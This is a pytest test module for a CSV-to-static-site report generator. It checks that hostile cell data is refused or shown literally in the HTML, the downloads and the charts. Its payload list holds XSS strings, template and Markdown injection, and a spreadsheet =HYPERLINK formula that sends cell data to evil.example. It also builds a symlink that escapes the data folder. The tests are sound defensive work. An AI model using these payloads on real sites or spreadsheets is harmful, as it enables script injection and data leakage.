@@ -1,0 +1,362 @@
+"""Hostile data: every route from a CSV cell to the public site, a download or a staff report.
+
+The corpus lives in tests/hostile/ (see its README). For each case `check` and the real build
+must agree, refused data writes nothing, and valid hostile text is shown literally in Chromium:
+no script runs, nothing is linked or styled from data.
+"""
+from __future__ import annotations
+
+import csv
+import functools
+import http.server
+import io
+import json
+import re
+import shutil
+import subprocess
+import sys
+import threading
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+
+from conftest import CHROMIUM, ROOT, build_site, free_port  # noqa: F401
+
+from dxreport.csvio import MAX_CELL_CHARS, MAX_FILE_BYTES, MAX_ROWS
+from dxreport.schema import TABLES
+from dxreport.validate import MAX_PROBLEMS_PER_FILE, format_report, validate_dir
+
+HOSTILE = ROOT / "tests" / "hostile"
+BASE = HOSTILE / "base"
+CASES = sorted((HOSTILE / "cases").glob("*.json"))
+
+# Valid but hostile text: markup, Markdown, Jinja, plotly markup, formula prefixes, placeholder tokens.
+# Each carries a marker so the test can find it shown literally.
+PAYLOADS = [
+    '<img src=x onerror="window.__xss=1">XSS01',
+    "<script>window.__xss=1</script>XSS02",
+    "**太字** [リンク](https://evil.example/) # 見出し XSS03",
+    "{{ 7*7 }}{% if true %}XSS04{% endif %}",
+    '<a href="https://evil.example/">plotly</a><span style="color:red">XSS05</span>',
+    '=HYPERLINK("https://evil.example/?"&A1,"XSS06")',
+    '"><svg onload=window.__xss=1>XSS07',
+    "DXHTMLBLOCK00001X XSS08",
+    "&lt;b&gt;XSS09&amp;",
+    "%{customdata}XSS10<br>",
+    "![画像](https://evil.example/x.png) <https://evil.example/> XSS11",
+    "'; window.__xss=1; //XSS12",
+    "+1-1 @SUM(A1) XSS13",
+    "</textarea></script><!-- XSS14",
+    "`code` | 表 | XSS15",
+    "<style>body{display:none}</style>XSS16",
+]
+PLOTLY_MARKUP = '<a href="https://evil.example/">plotly</a><span style="color:red">XSS05</span>'
+PLOTLY_LABELS = {"issues": ["field_name"], "kpis": ["unit"], "projects": ["indicator_unit"]}
+URL_PAYLOAD = 'https://evil.example/"><svg/onload=window.__xss=1>'
+# Characters no report needs and each of which broke a page or a parser once.
+UNSAFE = ["\x00", "\x07", "\x7f", "\x85", "\x9f", "\ufffe", "\ufeff", "\u202e", "\u2066", "\U0010ffff"]
+
+
+def _expand(value: str) -> str:
+    """'a{{300}}' -> 300 times 'a' (keeps long values readable in the case files)."""
+    return re.sub(r"(.)\{\{(\d+)\}\}", lambda m: m.group(1) * int(m.group(2)), value)
+
+
+def read_table(path: Path) -> tuple[list[str], list[dict]]:
+    with path.open(encoding="utf-8", newline="") as handle:
+        reader = csv.DictReader(handle)
+        return list(reader.fieldnames or []), list(reader)
+
+
+def write_table(path: Path, header: list[str], rows: list[dict]) -> None:
+    with path.open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.DictWriter(handle, header, lineterminator="\n")
+        writer.writeheader()
+        writer.writerows(rows)
+
+
+def set_cell(data: Path, file: str, row: int, column: str, value: str) -> None:
+    header, rows = read_table(data / file)
+    rows[row - 2][column] = value
+    write_table(data / file, header, rows)
+
+
+def _symlink_outside(data: Path, tmp: Path) -> None:
+    outside = tmp / "secret.csv"
+    outside.write_text("area_id,name,sort_order\nsecret,外部のファイル,1\n", encoding="utf-8")
+    (data / "areas.csv").unlink()
+    (data / "areas.csv").symlink_to(outside)
+
+
+def _folder_named_csv(data: Path, tmp: Path) -> None:
+    (data / "areas.csv").unlink()
+    (data / "areas.csv").mkdir()
+
+
+def _huge_file(data: Path, tmp: Path) -> None:
+    line = b"counter-1-1-1,2023,\xe6\xa7\x8b\xe7\xaf\x89\n"
+    with (data / "project_phases.csv").open("ab") as handle:
+        handle.write(line * (MAX_FILE_BYTES // len(line) + 2))
+
+
+def _too_many_rows(data: Path, tmp: Path) -> None:
+    with (data / "project_phases.csv").open("w", encoding="utf-8") as handle:
+        handle.write("project_id,fiscal_year,phase\n" + "counter-1-1-1,2023,構築\n" * (MAX_ROWS + 5))
+
+
+GENERATORS = {"symlink_outside": _symlink_outside, "folder_named_csv": _folder_named_csv,
+              "huge_file": _huge_file, "too_many_rows": _too_many_rows}
+
+
+def make_dataset(tmp: Path, case: dict) -> Path:
+    data = tmp / "data"
+    shutil.copytree(BASE, data)
+    for edit in case.get("edits", []):
+        set_cell(data, edit["file"], edit["row"], edit["column"], _expand(edit["value"]))
+    raw = case.get("raw")
+    if raw:
+        parts = raw.get("parts") or [[raw["encoding"], raw["text"]]]
+        (data / raw["file"]).write_bytes(b"".join(text.encode(enc) for enc, text in parts))
+    if case.get("generate"):
+        GENERATORS[case["generate"]](data, tmp)
+    return data
+
+
+def _matches(problem, expect: dict) -> bool:
+    return (problem.file.endswith("/" + expect["file"])
+            and ("row" not in expect or problem.row == expect["row"])
+            and ("column" not in expect or problem.column == expect["column"]))
+
+
+@pytest.mark.parametrize("case_path", CASES, ids=[p.stem for p in CASES])
+def test_case_is_reported_where_it_is_and_check_agrees_with_build(case_path, tmp_path):
+    case = json.loads(case_path.read_text(encoding="utf-8"))
+    data = make_dataset(tmp_path, case)
+    _, problems = validate_dir(data, "data")
+    errors = [p for p in problems if p.is_error]
+    report = format_report(problems, "data")
+    if case["expect"] is None:
+        assert not errors, report
+    else:
+        assert any(_matches(p, case["expect"]) for p in errors), report
+        assert "Traceback" not in report and len(report.encode()) < 1_000_000
+    dest = tmp_path / "site"
+    result = build_site(dest, data)
+    # `check` passing must mean the build passes, and refused data must write nothing at all.
+    assert (result.returncode == 0) == (not errors), result.stdout + result.stderr
+    if errors:
+        assert "Traceback" not in result.stderr, result.stderr
+        assert not dest.exists() or not any(dest.iterdir())
+
+
+def _text_columns(table) -> list:
+    return [c for c in table.columns if c.kind in ("text", "url")]
+
+
+def _with_payloads(data: Path) -> dict[str, str]:
+    """Every text and URL cell of every table gets a hostile value; returns marker -> table.column."""
+    where: dict[str, str] = {}
+    n = 0
+    for table in TABLES:
+        header, rows = read_table(data / table.filename)
+        for row in rows:
+            for col in _text_columns(table):
+                if col.kind == "url":
+                    row[col.name] = URL_PAYLOAD
+                    continue
+                payload = PAYLOADS[n % len(PAYLOADS)]
+                row[col.name] = payload
+                where.setdefault(payload, f"{table.name}.{col.name}")
+                n += 1
+        if table.name in PLOTLY_LABELS:  # texts plotly draws itself: its markup, deterministically
+            for column in PLOTLY_LABELS[table.name]:
+                rows[0][column] = PLOTLY_MARKUP
+        write_table(data / table.filename, header, rows)
+    return where
+
+
+@pytest.mark.parametrize("char", UNSAFE, ids=[f"U+{ord(c):04X}" for c in UNSAFE])
+def test_unsafe_character_in_any_text_column_is_refused_at_its_cell(char, tmp_path):
+    data = tmp_path / "data"
+    shutil.copytree(BASE, data)
+    for table in TABLES:
+        for col in _text_columns(table):
+            header, rows = read_table(data / table.filename)
+            if not rows:
+                continue
+            original = rows[0][col.name]
+            rows[0][col.name] = f"前{char}<b>後</b>"
+            write_table(data / table.filename, header, rows)
+            _, problems = validate_dir(data, "data")
+            hits = [p for p in problems if p.is_error and p.file == f"data/{table.filename}"
+                    and p.row == 2 and p.column == col.name]
+            assert hits, f"{table.name}.{col.name} with U+{ord(char):04X} was not refused"
+            # The report names the character instead of echoing it.
+            assert char not in format_report(problems, "data")
+            rows[0][col.name] = original
+            write_table(data / table.filename, header, rows)
+
+
+def test_unsafe_character_build_writes_nothing(tmp_path):
+    data = tmp_path / "data"
+    shutil.copytree(BASE, data)
+    set_cell(data, "issues.csv", 2, "title", "課題\x7f<img src=x onerror=alert(1)>")
+    dest = tmp_path / "site"
+    result = build_site(dest, data)
+    assert result.returncode != 0
+    output = result.stdout + result.stderr
+    assert "issues.csv" in output and "2行目" in output and "U+007F" in output
+    assert not dest.exists() or not any(dest.iterdir())
+
+
+def test_report_is_capped_per_file_and_summary_fence_cannot_be_closed(tmp_path):
+    data = tmp_path / "data"
+    shutil.copytree(BASE, data)
+    with (data / "project_phases.csv").open("a", encoding="utf-8") as handle:
+        for n in range(3000):
+            handle.write(f"counter-1-1-1,2023,``` 偽{n}\n")
+    out = tmp_path / "report.md"
+    result = subprocess.run([sys.executable, "-m", "dxreport", "check", str(data), "--report", str(out)],
+                            capture_output=True, text=True, cwd=ROOT)
+    assert result.returncode == 1
+    text = out.read_text(encoding="utf-8")
+    assert f"ほかに {3000 - MAX_PROBLEMS_PER_FILE} 件" in text
+    assert len(text.encode()) < 200_000
+    fence = text.split("\n", 1)[0].removesuffix("text")
+    assert set(fence) == {"`"} and len(fence) > 3
+    body = text[len(fence) + 5:-(len(fence) + 1)]
+    assert not any(line.startswith(fence) for line in body.splitlines())
+    assert text.rstrip("\n").endswith(fence)
+
+
+def test_cell_length_and_row_limits_are_stated():
+    guide = (ROOT / "docs" / "guide" / "index.md").read_text(encoding="utf-8")
+    for figure in (f"{MAX_CELL_CHARS:,}", f"{MAX_ROWS:,}", f"{MAX_FILE_BYTES // (1024 * 1024)} MB"):
+        assert figure in guide
+
+
+class _Quiet(http.server.SimpleHTTPRequestHandler):
+    def log_message(self, *args):
+        pass
+
+
+@pytest.fixture(scope="module")
+def hostile_site(tmp_path_factory):
+    """The small report with hostile text in every text cell, built and served on loopback."""
+    tmp = tmp_path_factory.mktemp("hostile")
+    data = tmp / "data"
+    shutil.copytree(BASE, data)
+    markers = _with_payloads(data)
+    _, problems = validate_dir(data, "data")
+    assert not [p for p in problems if p.is_error], format_report(problems, "data")
+    root = tmp / "www"
+    port = free_port()
+    base = f"http://127.0.0.1:{port}/sub/"
+    result = build_site(root / "sub", data, site_url=base)
+    assert result.returncode == 0, result.stdout + result.stderr
+    server = http.server.ThreadingHTTPServer(
+        ("127.0.0.1", port), functools.partial(_Quiet, directory=str(root)))
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield root / "sub", base, markers
+    server.shutdown()
+
+
+class _Elements(HTMLParser):
+    """Every real element and attribute of a page (what a browser would build), not its text."""
+
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.found: list[tuple[str, dict]] = []
+        self.script_text = ""
+        self._in_script = False
+
+    def handle_starttag(self, tag, attrs):
+        self.found.append((tag, {k: v or "" for k, v in attrs}))
+        self._in_script = tag == "script"
+
+    def handle_endtag(self, tag):
+        self._in_script = False
+
+    def handle_data(self, data):
+        if self._in_script:
+            self.script_text += data
+
+
+def test_hostile_text_reaches_no_markup_in_html(hostile_site):
+    site_dir, _, _ = hostile_site
+    for page in site_dir.rglob("*.html"):
+        parser = _Elements()
+        parser.feed(page.read_text(encoding="utf-8"))
+        name = page.relative_to(site_dir)
+        assert "__xss" not in parser.script_text, name
+        for tag, attrs in parser.found:
+            assert tag not in ("img", "svg", "style") or "evil" not in str(attrs), (name, tag, attrs)
+            assert not any(k.startswith("on") for k in attrs), (name, tag, attrs)
+            assert "color:red" not in attrs.get("style", ""), (name, tag, attrs)
+            # URL columns (licence, source) are links by design; the value must stay one attribute.
+            if "evil.example" in attrs.get("href", ""):
+                assert attrs["href"] == URL_PAYLOAD, (name, attrs)
+        assert "DXBLOCK" not in page.read_text(encoding="utf-8") or name.name == "search.html"
+
+
+def test_hostile_text_in_downloads_cannot_run_as_formula(hostile_site):
+    site_dir, _, _ = hostile_site
+    for path in (site_dir / "opendata").rglob("*.csv"):
+        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))):
+            for cell in row:
+                assert not (len(cell) > 1 and cell[0] in "=+-@＝＋－＠"), f"{path.name}: {cell!r}"
+    # JSON keeps the published text exactly.
+    records = json.loads((site_dir / "opendata" / "all" / "projects.json").read_text(encoding="utf-8"))
+    assert any(str(v).startswith('=HYPERLINK("https://evil.example/') for r in records for v in r.values())
+
+
+@pytest.mark.browser
+def test_hostile_pages_run_no_script_link_or_style_from_data(hostile_site, browser):
+    site_dir, base, markers = hostile_site
+    context = browser.new_context(viewport={"width": 1280, "height": 900}, locale="ja-JP")
+    page = context.new_page()
+    dialogs: list[str] = []
+    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+    urls = ["", "issues/counter/", "issues/tourism/", "projects/counter-1-1-1/", "projects/", "themes/",
+            "downloads/", "method/", "search/?q=XSS01"]
+    seen_text = ""
+    for url in urls:
+        page.goto(base + url)
+        page.wait_for_load_state("networkidle")
+        page.wait_for_timeout(300)
+        assert page.evaluate("window.__xss") is None, url
+        # No link, image or style in the content made from text cells (URL columns are links by design).
+        hrefs = page.eval_on_selector_all("article a[href*='evil.example']", "els => els.map(e => e.href)")
+        assert all(h == URL_PAYLOAD.replace('"', "%22").replace("<", "%3C").replace(">", "%3E") for h in hrefs), hrefs
+        assert page.locator("article img[src*='evil.example']").count() == 0, url
+        assert page.locator("article [style*='color:red'], article [style*='color: red']").count() == 0, url
+        assert page.locator(".dx-chart svg a").count() == 0, url
+        assert page.evaluate("getComputedStyle(document.body).display") != "none", url
+        seen_text += page.inner_text("body")
+    context.close()
+    assert not dialogs
+    # Shown literally, as typed in the CSV.
+    for payload in ("<script>window.__xss=1</script>XSS02", "**太字** [リンク](https://evil.example/) # 見出し XSS03",
+                    "{{ 7*7 }}{% if true %}XSS04{% endif %}", "&lt;b&gt;XSS09&amp;"):
+        if payload in markers:
+            assert payload in seen_text, f"{payload} ({markers[payload]}) not shown literally"
+
+
+@pytest.mark.browser
+def test_chart_labels_show_plotly_markup_as_text(hostile_site, browser):
+    """Plotly renders <a href>, <span style> and <br> in labels: from data they must show as text."""
+    site_dir, base, _ = hostile_site
+    context = browser.new_context(viewport={"width": 1280, "height": 900}, locale="ja-JP")
+    page = context.new_page()
+    for url in ("", "issues/tourism/", "projects/counter-1-1-1/"):
+        page.goto(base + url)
+        page.wait_for_selector(".dx-chart svg text", timeout=20000)
+        page.wait_for_timeout(300)
+        svg_text = page.evaluate(
+            "Array.from(document.querySelectorAll('.dx-chart svg text')).map(t => t.textContent).join('|')")
+        assert "plotly</a>" in svg_text and "XSS05</span>" in svg_text, (url, svg_text[:300])
+        assert "%{customdata}XSS10<br>".replace("%{", "%\u200b{") in svg_text or "XSS10" not in svg_text
+        assert page.locator(".dx-chart svg a").count() == 0, url
+        assert page.locator(".dx-chart svg [style*='color:red'], .dx-chart svg [style*='color: red']").count() == 0
+    context.close()
